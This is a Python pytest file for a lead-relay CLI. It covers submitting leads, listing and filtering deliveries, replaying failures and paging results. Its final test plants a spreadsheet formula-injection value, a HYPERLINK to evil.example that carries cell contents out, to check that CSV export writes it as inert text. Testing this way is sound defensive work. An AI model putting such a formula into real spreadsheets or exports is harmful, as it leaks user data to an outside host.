"""submit, deliveries, inspect and replay against a real CRM on loopback."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

from pytest_httpserver import HTTPServer

from leadrelay.engine.app import Leadrelay

from .helpers import LEAD, ONE_TRY, Cli, add_integration


def test_submit_takes_the_lead_inline_from_a_file_or_on_stdin(
    cli: Cli, form: int, tmp_path: Path
) -> None:
    # Given a form with one active integration
    add_integration(cli, form, "https://crm.example/leads")
    lead_file = tmp_path / "lead.json"
    lead_file.write_text(json.dumps(LEAD))

    # When a lead is submitted each way
    inline = cli.json("submit", "--form", str(form), "--json", json.dumps(LEAD))
    from_file = cli.json("submit", "--form", str(form), "--file", str(lead_file),
                         "--source", "import", "--external-id", "row-2")
    from_stdin = cli.json("submit", "--form", str(form), input=json.dumps(LEAD))

    # Then each is accepted with one delivery, pending
    assert [a["lead_id"] for a in (inline, from_file, from_stdin)] == [1, 2, 3]
    assert all(len(a["delivery_ids"]) == 1 for a in (inline, from_file, from_stdin))
    pending = cli.json("deliveries", "--state", "pending", "--json")
    assert sorted(d["lead_id"] for d in pending) == [1, 2, 3]
    lead = cli.json("inspect", str(from_file["delivery_ids"][0]))["lead"]
    assert lead["source"] == "import" and lead["external_id"] == "row-2"
    assert lead["payload"] == LEAD


def test_a_delivered_lead_is_listed_and_inspected(
    cli: Cli, form: int, engine: Leadrelay, httpserver: HTTPServer
) -> None:
    # Given a Pipedrive-like CRM that accepts, and a lead delivered to it
    httpserver.expect_request("/api/v1/leads").respond_with_json(
        {"success": True, "data": {"id": "adf21080-0e10-11eb-879b-05d71fb426ec"}}, status=201)
    integration = add_integration(
        cli, form, httpserver.url_for("/api/v1/leads"), body="json",
        fields={"title": {"template": "{first_name} {last_name}"}},
    )
    cli("integrations", "update", str(integration), "--expectations", json.dumps(
        {"rules": [{"kind": "status", "in": [201]},
                   {"kind": "json_field", "path": "success", "equals": True}],
         "reference": {"json": "data.id"}}))
    delivery = cli.json("submit", "--form", str(form), "--json", json.dumps(LEAD))[
        "delivery_ids"][0]
    [result] = engine.deliver_due()
    assert result.outcome.value == "accepted"

    # When the deliveries are listed and the delivery inspected
    listed = cli.json("deliveries", "--json")
    table = cli("deliveries").stdout
    obj = cli.json("inspect", str(delivery))

    # Then the CRM's reference is there, and the whole exchange
    assert listed[0]["state"] == "delivered"
    assert listed[0]["crm_reference"] == "adf21080-0e10-11eb-879b-05d71fb426ec"
    assert "delivered" in table and "adf21080-0e10-11eb-879b-05d71fb426ec" in table
    assert obj["delivery"]["attempts"] == 1
    exchange = obj["attempts"][0]["exchanges"][0]
    assert json.loads(exchange["request"]["body"]) == {"title": "Jane Doe"}
    assert exchange["response"]["status"] == 201
    trace = obj["attempts"][0]["trace"]
    assert all(t["passed"] for t in trace)
    assert {"status in [201]", "json_field success == true"} <= {t["rule"] for t in trace}


def test_deliveries_filters(cli: Cli, form: int, engine: Leadrelay,
                           httpserver: HTTPServer) -> None:
    # Given one integration that accepts and one whose CRM fails with a 400
    httpserver.expect_request("/ok").respond_with_data("ok")
    httpserver.expect_request("/bad").respond_with_data("bad request", status=400)
    ok = add_integration(cli, form, httpserver.url_for("/ok"))
    bad = add_integration(cli, form, httpserver.url_for("/bad"), "--retry", json.dumps(ONE_TRY))
    cli("submit", "--form", str(form), "--json", json.dumps(LEAD))
    engine.deliver_due()

    def ids(*args: str) -> list[int]:
        return [d["integration_id"] for d in cli.json("deliveries", "--json", *args)]

    # Then each filter narrows the list
    assert sorted(ids()) == [ok, bad]
    assert ids("--state", "delivered") == [ok]
    assert ids("--failed") == [bad]
    assert ids("--integration", str(bad)) == [bad]
    assert ids("--reason", "saw 400") == [bad]
    assert ids("--outcome", "accepted") == [ok]
    assert sorted(ids("--since", "1h")) == [ok, bad]
    assert ids("--until", "2000-01-01") == []
    assert ids("--form", str(form + 1)) == []
    assert len(ids("--limit", "1")) == 1
    failed_table = cli("deliveries", "--failed").stdout
    assert "Failed collection" in failed_table and "not_integrated" in failed_table
    assert "no deliveries" in cli("deliveries", "--form", str(form + 1)).stdout


def test_replay_dry_run_then_replay(
    cli: Cli, form: int, engine: Leadrelay, httpserver: HTTPServer
) -> None:
    # Given a delivery in the failed collection after a 500
    httpserver.expect_request("/crm").respond_with_data("boom", status=500)
    integration = add_integration(cli, form, httpserver.url_for("/crm"),
                                  "--retry", json.dumps(ONE_TRY))
    delivery = cli.json("submit", "--form", str(form), "--json", json.dumps(LEAD))[
        "delivery_ids"][0]
    engine.deliver_due()
    assert cli.json("inspect", str(delivery))["delivery"]["state"] == "not_integrated"

    # When a dry run is asked
    dry = cli("replay", "--integration", str(integration), "--dry-run").stdout
    dry_json = cli.json("replay", "--dry-run", "--json")

    # Then it says how many and what would be sent, and nothing changes
    assert "dry run: 1 deliveries would be replayed" in dry
    assert f"POST {httpserver.url_for('/crm')}" in dry and "first_name=Jane" in dry
    assert dry_json["count"] == 1 and dry_json["dry_run"] is True
    assert "first_name=Jane" in dry_json["previews"][0]["request"]["body"]
    assert cli.json("inspect", str(delivery))["delivery"]["state"] == "not_integrated"
    assert len(httpserver.log) == 1

    # When the CRM is fixed and the failed collection replayed (a filter that misses first)
    httpserver.clear_all_handlers()
    httpserver.expect_request("/crm").respond_with_data("ok")
    assert cli("replay", "--integration", str(integration + 1)).stdout.startswith(
        "replayed 0 deliveries")
    assert cli("replay", "--reason", "500").stdout == f"replayed 1 deliveries: #{delivery}\n"
    [result] = engine.deliver_due()

    # Then the delivery goes through, its history kept
    assert result.outcome.value == "accepted"
    obj = cli.json("inspect", str(delivery))
    assert obj["delivery"]["state"] == "delivered" and obj["delivery"]["replays"] == 1
    assert [a["outcome"] for a in obj["attempts"]] == ["transient", "accepted"]


def test_deliveries_come_in_pages_the_api_shares(cli: Cli, form: int, engine: Leadrelay) -> None:
    # Given five deliveries
    add_integration(cli, form, "http://127.0.0.1:9/leads")
    ids = sorted((engine.submit(form, LEAD).delivery_ids[0] for _ in range(5)), reverse=True)

    # When they are listed two at a time, following the printed cursor
    seen: list[int] = []
    cursor: list[str] = []
    for _ in range(5):
        result = cli("deliveries", "--limit", "2", "--json", *cursor)
        seen += [row["id"] for row in json.loads(result.stdout)]
        more = re.search(r"--cursor (\d+)", result.stderr)
        if more is None:
            break
        cursor = ["--cursor", more.group(1)]

    # Then each comes once, newest first, and the last page says no more
    assert seen == ids
    assert "not a cursor" in cli.error("deliveries", "--cursor", "abc")


def test_the_failed_collection_exports_as_csv_without_live_formulas(
    cli: Cli, form: int, engine: Leadrelay, httpserver: HTTPServer,
) -> None:
    # Given a failed delivery of a lead whose fields look like spreadsheet formulas
    httpserver.expect_request("/bad").respond_with_data("=1+1", status=400)
    add_integration(cli, form, httpserver.url_for("/bad"), "--retry", json.dumps(ONE_TRY))
    hostile = {**LEAD, "first_name": '=HYPERLINK("http://evil.example/?"&A1)',
               "company": "@SUM(A1)"}
    cli("submit", "--form", str(form), "--json", json.dumps(hostile))
    engine.deliver_due()

    # When the failed collection is exported as CSV
    rows = list(csv.DictReader(io.StringIO(cli("deliveries", "--failed", "--csv").stdout)))

    # Then the row is there with its fields, written as text
    [row] = rows
    assert row["state"] == "not_integrated"
    assert row["field.first_name"] == "'" + hostile["first_name"]
    assert row["field.company"] == "'@SUM(A1)"
    assert row["field.email"] == LEAD["email"]
    assert "--csv and --json" in cli.error("deliveries", "--csv", "--json")
